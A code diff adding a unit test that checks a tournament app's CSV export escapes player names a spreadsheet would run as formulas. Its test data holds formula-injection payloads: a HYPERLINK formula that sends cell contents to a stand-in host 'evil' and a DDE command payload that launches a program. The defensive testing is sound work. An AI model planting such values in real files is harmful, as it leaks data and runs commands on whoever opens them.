@@ -680,6 +680,26 @@ def test_export_csv():
     assert len(list(csv.reader(io.StringIO(text)))) == 7
 
 
+def test_export_csv_writes_formula_names_as_text():
+    """Issue 17: a name a spreadsheet would run (=, +, -, @; a tab or a return the store
+    refuses in a name already) is written as text, with an apostrophe ahead; the rest as it
+    was."""
+    store = new_store(":memory:")
+    names = ['=HYPERLINK("http://evil/?"&A1,"click")', "+cmd|' /C calc'!A0", "-2+3",
+             "@SUM(A1:A9)", "Amina"]
+    for index, name in enumerate(names):
+        store.register(name, 2000 - index)
+    store.add_table("table-1")
+    store.add_table("table-2")
+    store.fix_numbers()
+    store.add_round(1, [Pairing(1, 1, 1, 2), Pairing(1, 2, 3, 4), Pairing(1, 3, 5, None)],
+                    {1: "table-1", 2: "table-2"})
+    rows = list(csv.reader(io.StringIO(export_csv(store))))[1:]
+    cells = [row[3] for row in rows] + [row[4] for row in rows]
+    assert sorted(cells) == sorted(["'" + name for name in names[:4]] + ["Amina", "bye"])
+    assert not any(cell.startswith(("=", "+", "-", "@", "\t")) for row in rows for cell in row)
+
+
 def test_export_json_is_the_whole_event():
     exported = export_json(finished_event())
     assert json.loads(json.dumps(exported)) == exported
